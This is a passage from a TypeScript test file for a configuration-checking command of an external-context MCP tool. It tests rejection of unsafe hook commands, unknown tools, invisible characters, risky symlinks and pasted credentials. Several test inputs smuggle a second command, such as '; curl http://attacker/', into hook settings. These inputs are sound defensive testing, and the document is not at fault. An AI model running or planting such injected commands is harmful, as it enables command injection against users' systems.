      `${exe} hook write-confirmation; curl http://attacker/`,
      `${exe} hook write-confirmation && curl http://attacker/`,
      `${exe} hook write-confirmation # comment`,
      `${exe} hook write-confirmation --host 'codex'`,
    ]) {
      expect(byId((await doctor(['--config', config, '--settings', write(command)])).items, 'settings.write-hook')?.status).toBe('fail');
    }
    expect(byId((await doctor(['--config', config, '--settings', write(`${exe} hook write-confirmation --host claude`)])).items, 'settings.write-hook')?.message).toBe(
      "The PreToolUse Hook command answers in the claude format (--host claude), not Qwen Code's.",
    );

    const repo = path.join(tmp.path, 'repo-f4');
    mkdirSync(repo, { recursive: true });
    const v2 = file({ ...genericConfig(generic.origin), version: 2, autoRecall: { repositoryRoot: repo } });
    const recall = (command: string) => settingsWith('UserPromptSubmit', '*', command);
    const smuggled = await doctor(['--config', v2, '--settings', recall(`${exe} hook write-confirmation --server-name x; curl http://attacker/ # hook auto-recall`)]);
    expect(byId(smuggled.items, 'settings.auto-recall-hook')).toEqual({
      id: 'settings.auto-recall-hook',
      status: 'fail',
      message: 'The UserPromptSubmit Hook command is not exactly a command external-context hook settings prints (one exec of the executable with quoted arguments, nothing before or after it).',
      hint: 'Use the command external-context hook settings auto-recall prints for this deployment.',
    });
    const pinnedElsewhere = await doctor(['--config', v2, '--settings', recall(`${exe} hook auto-recall --config '/etc/other.json'`)]);
    expect(byId(pinnedElsewhere.items, 'settings.auto-recall-hook')).toMatchObject({
      status: 'fail',
      message: `The UserPromptSubmit Hook command pins --config /etc/other.json, not the configuration checked here (${v2}).`,
    });
    expect(byId((await doctor(['--config', v2, '--settings', recall(`${exe} hook auto-recall --config '${v2}'`)])).items, 'settings.auto-recall-hook')?.status).toBe('ok');
  });

  test('includeTools cannot be judged when the configuration does not load, and never passes an unknown tool', async () => {
    const broken = file('{"version": 1, "provider": ');
    const mcp = (includeTools: string[]) => file({ mcpServers: { 'external-context': { command: process.execPath, args: ['serve', '--config', broken], includeTools, alwaysLoadTools: true } } });
    const unknown = await doctor(['--config', broken, '--mcp-config', mcp(['context_search', 'shell_exec'])]);
    expect(byId(unknown.items, 'mcp-config.include-tools')).toEqual({
      id: 'mcp-config.include-tools',
      status: 'fail',
      message: 'includeTools is ["context_search","shell_exec"], which names a tool the server does not have.',
      hint: 'Keep only "context_search" (and "context_remember" when writes are enabled) in includeTools.',
    });
    const unjudged = await doctor(['--config', broken, '--mcp-config', mcp(['context_search'])]);
    expect(byId(unjudged.items, 'mcp-config.include-tools')).toEqual({
      id: 'mcp-config.include-tools',
      status: 'warn',
      message: 'includeTools is ["context_search"]; it cannot be compared with the tools the configuration exposes, since the configuration did not load.',
      hint: 'Fix the configuration, then run check again.',
    });
  });

  // F6 of the break report: bidi and zero-width characters passed raw into operator text.
  test('bidi controls and invisible characters in managed files are shown escaped', async () => {
    const broken = file('{"version": 1, "provider": ');
    const mcp = file({
      mcpServers: { 'ext\u200bctx': { command: `${tmp.path}/\u2066bin`, args: ['serve', '--config', broken], includeTools: ['context_search', '\u202egnp.exe'], alwaysLoadTools: true } },
    });
    const { items } = await doctor(['--config', broken, '--mcp-config', mcp]);
    expect(byId(items, 'mcp-config')?.message).toBe(`${mcp}: server "ext\\u200bctx" runs serve.`);
    expect(byId(items, 'mcp-config.executable')?.message).toBe('mcpServers.ext\\u200bctx.command must name an existing regular file.');
    expect(byId(items, 'mcp-config.include-tools')?.message).toBe('includeTools is ["context_search","\\u202egnp.exe"], which names a tool the server does not have.');
    expect(JSON.stringify(items)).not.toMatch(/[\u200b\u202e\u2066]/u);
  });

  // Minor finding of the break report: the managed-file reader opens once with O_NONBLOCK and
  // checks that descriptor (readRegularFile), so a FIFO fails at once instead of hanging check.
  test.skipIf(process.platform === 'win32')('a FIFO as a managed file fails at once as not a regular file', async () => {
    const fifo = path.join(tmp.path, `managed-${++counter}.fifo`);
    execFileSync('mkfifo', [fifo]);
    const { items } = await doctor(['--config', file(writeConfig()), '--mcp-config', fifo, '--settings', fifo]);
    expect(byId(items, 'mcp-config')?.message).toBe(`${fifo}: is not a regular file of at most 1 MiB.`);
    expect(byId(items, 'settings')?.message).toBe(`${fifo}: is not a regular file of at most 1 MiB.`);
  });

  // F3 of the break report, through check and the real launch: (a) a symlink on the way that
  // lives in a world-writable folder; (b) a link another user owns in a sticky folder.
  test.skipIf(process.platform === 'win32')('a path that resolves through a link others can change fails check and launch (a)', async () => {
    const base = path.join(tmp.path, `walk-${++counter}`);
    for (const name of ['adm', 'evil', 'real']) mkdirSync(path.join(base, name), { recursive: true });
    const real = path.join(base, 'real', 'exe');
    writeFileSync(real, '#!/bin/sh\nexit 0\n');
    chmodSync(real, 0o755);
    for (const name of ['adm', 'real']) chmodSync(path.join(base, name), 0o755);
    chmodSync(path.join(base, 'evil'), 0o777);
    symlinkSync(path.join(base, 'evil', 'link2'), path.join(base, 'adm', 'link'));
    symlinkSync(path.join(base, 'real'), path.join(base, 'evil', 'link2'));
    const viaLink = path.join(base, 'adm', 'link', 'exe');
    const mcp = file({ mcpServers: { 'external-context': { command: viaLink, args: ['serve'], includeTools: ['context_search'], alwaysLoadTools: true } } });
    const { items } = await doctor(['--config', file(genericConfig(generic.origin)), '--mcp-config', mcp]);
    expect(byId(items, 'mcp-config.executable')).toMatchObject({ status: 'fail', message: 'mcpServers.external-context.command must not be writable by other users.' });
    const profile = file({ version: 1, qwenExecutable: viaLink, repository: tmp.path, systemSettings: real });
    const launched = await runProcess(requireBuilt(exePath()), ['launch', '--profile', profile], { env: cleanEnv() });
    expect({ code: launched.code, stderr: launched.stderr }).toEqual({
      code: 1,
      stderr: '[external-context] External context launch profile is invalid: qwenExecutable must not be writable by other users.\n',
    });
  });

  test.skipIf(process.platform === 'win32' || process.getuid?.() !== 0)('a symlink another user owns in a sticky folder fails check and launch (b; needs root to lchown)', async () => {
    const sticky = path.join(tmp.path, `sticky-${++counter}`);
    mkdirSync(sticky);
    chmodSync(sticky, 0o1777);
    const link = path.join(sticky, 'qwen');
    symlinkSync(executable, link);
    lchownSync(link, 65534, 65534);
    const profile = file({ version: 1, qwenExecutable: link, repository: tmp.path, systemSettings: executable });
    expect(byId((await doctor(['--config', file(genericConfig(generic.origin)), '--launch-profile', profile])).items, 'launch-profile')).toMatchObject({
      status: 'fail',
      message: `${profile}: External context launch profile is invalid: qwenExecutable must not be writable by other users.`,
    });
    const launched = await runProcess(requireBuilt(exePath()), ['launch', '--profile', profile], { env: cleanEnv() });
    expect(launched.code).toBe(1);
    expect(launched.stderr).toContain('qwenExecutable must not be writable by other users.');
  });

  test('--launch-profile reports what launch would reject, naming the field', async () => {
    const profile = file({ version: 1, qwenExecutable: path.join(tmp.path, 'no-qwen'), repository: tmp.path, systemSettings: executable });
    const { code, items } = await doctor(['--config', file(genericConfig(generic.origin)), '--launch-profile', profile]);
    expect(code).toBe(1);
    expect(byId(items, 'launch-profile')).toMatchObject({
      status: 'fail',
      message: `${profile}: External context launch profile is invalid: qwenExecutable must name an existing regular file.`,
    });
    const good = file({ version: 1, qwenExecutable: executable, repository: tmp.path, systemSettings: executable });
    expect(byId((await doctor(['--config', file(genericConfig(generic.origin)), '--launch-profile', good])).items, 'launch-profile')?.status).toBe('ok');
  });
});

// F5 of the break report: a credential pasted into tokenEnv/apiKeyEnv/credentialEnv was echoed
// as "the variable name" in the item and its hint.
describe('check never echoes a credential pasted where a variable name goes', () => {
  const PASTED = `ghp_canarysecret${CANARY.credential.slice(-8)}`;
  const configs = (): readonly (readonly [string, Record<string, unknown>])[] => [
    ['tokenEnv', { version: 1, provider: { type: 'generic-http-search-v1', baseUrl: generic.origin, tokenEnv: PASTED } }],
    ['apiKeyEnv', { version: 1, provider: { type: 'mem0-platform-v3', apiKeyEnv: PASTED, appId: 'app' } }],
    ['credentialEnv', { version: 1, provider: { type: 'mem0', preset: 'mem0-server-rest-2026-08', endpoint: { origin: mem0.origin }, credentialEnv: PASTED, scope: { userId: 'u1' } } }],
  ];

  test('an unset name that does not look like a variable name is not shown (text and --json, the executable)', async () => {
    // Every field, text and --json: the first run on the executable, the rest through run() in
    // this process (the same code, issue 26 §3). The item is the same code on every runtime: the
    // executable's checklist, text and --json, is 'check checklist as a process' below.
    const exe = requireBuilt(exePath());
    let spawned = false;
    for (const [field, content] of configs()) {
      const config = file(content);
      const { items } = await doctor(['--config', config], {});
      expect(byId(items, 'credential')).toEqual({
        id: 'credential',
        status: 'fail',
        message: `provider.${field} names a variable that is not set; the name does not look like a variable name: was the credential itself pasted there?`,
        hint: `Put the name of the variable that holds the credential (such as TEAM_CONTEXT_TOKEN) in provider.${field}, set that variable, and rotate the credential if it was pasted into the file.`,
      });
      for (const json of [[], ['--json']]) {
        const args = ['check', '--config', config, ...json];
        const result = spawned ? await runInMemory(runDispatch, args, { env: cleanEnv() }) : await runProcess(exe, args, { env: cleanEnv() });
        spawned = true;
        expect(result.code).toBe(1);
        expect(result.stdout).toContain(`provider.${field} names a variable that is not set`);
        expect(findCanaries(result.stdout + result.stderr)).toEqual([]);
      }
    }
    // An UPPER_SNAKE name is the administrator's variable: still named.
    expect(byId((await doctor(['--config', file(genericConfig(generic.origin))], {})).items, 'credential')?.message).toBe(`provider.tokenEnv names ${VAR}, which is not set.`);
  });

  test('a launch profile credentialEnv entry that looks pasted is not shown, by check and by launch', async () => {
    const profile = file({ version: 1, qwenExecutable: executable, repository: tmp.path, systemSettings: executable, credentialEnv: ['TEAM_KEY', PASTED] });
    const expected = `${profile}: External context launch credential credentialEnv.1 names a variable that is not set; the name does not look like a variable name: was the credential itself pasted there? Field: credentialEnv.`;
    const { items } = await doctor(['--config', file(genericConfig(generic.origin)), '--launch-profile', profile], { [VAR]: TOKEN, TEAM_KEY: 'k' });
    expect(byId(items, 'launch-profile')?.message).toBe(expected);
    const launched = await runProcess(requireBuilt(exePath()), ['launch', '--profile', profile], { env: cleanEnv({ TEAM_KEY: 'k' }) });
    expect(launched.code).toBe(1);
    expect(launched.stderr).toContain('External context launch credential credentialEnv.1 names a variable that is not set;');
    expect(findCanaries(launched.stdout + launched.stderr)).toEqual([]);
    const upper = file({ version: 1, qwenExecutable: executable, repository: tmp.path, systemSettings: executable, credentialEnv: ['TEAM_KEY'] });
    expect(byId((await doctor(['--config', file(genericConfig(generic.origin)), '--launch-profile', upper], { [VAR]: TOKEN })).items, 'launch-profile')?.message).toBe(
      `${upper}: External context launch credential TEAM_KEY is not set. Field: credentialEnv.`,
    );
  });
});

// On the executable only: the checklist is the same code on every runtime, and each bundle's exit
// codes and stdout are test/bundle/bundle-smoke.ts's (exit-codes, stdin-stdout).
describe('check checklist as a process', () => {
  const launchers = launcherRows(['executable']);
  for (const launcher of launchers) {
    test(`${launcher.label}: text and --json carry the same items, exit 1 on a failed item`, async () => {
      const config = file(genericConfig('https://kb.example.com'));
      const env = cleanEnv({ [VAR]: `${TOKEN}\n`, DENO_NO_UPDATE_CHECK: '1' });
      const json = await runProcess(launcher.command, [...launcher.args, 'check', '--config', config, '--json'], { env });
      const text = await runProcess(launcher.command, [...launcher.args, 'check', '--config', config], { env });
      expect([json.code, text.code]).toEqual([1, 1]);
      const items = (JSON.parse(json.stdout) as { items: CheckItem[] }).items;
      expect(items.map((entry) => [entry.id, entry.status])).toEqual([
        ['config-file', 'ok'],
        ['placeholders', 'fail'],
        ['configuration', 'fail'],
        ['credential', 'fail'],
      ]);
      const expected = ['Checklist:'];
      for (const entry of items) {
        expected.push(`  ${entry.status.padEnd(4)}  ${entry.id}: ${entry.message}`);
        if (entry.hint !== undefined) expected.push(`        hint: ${entry.hint}`);
      }
      expected.push('3 items failed: 1 ok, 0 warnings, 3 failed.', '');
      expect(text.stdout).toBe(expected.join('\n'));
      expect(text.stderr).toBe('[external-context] Configured external context credential is unavailable. Field: provider.tokenEnv.\n');
    });
  }
});
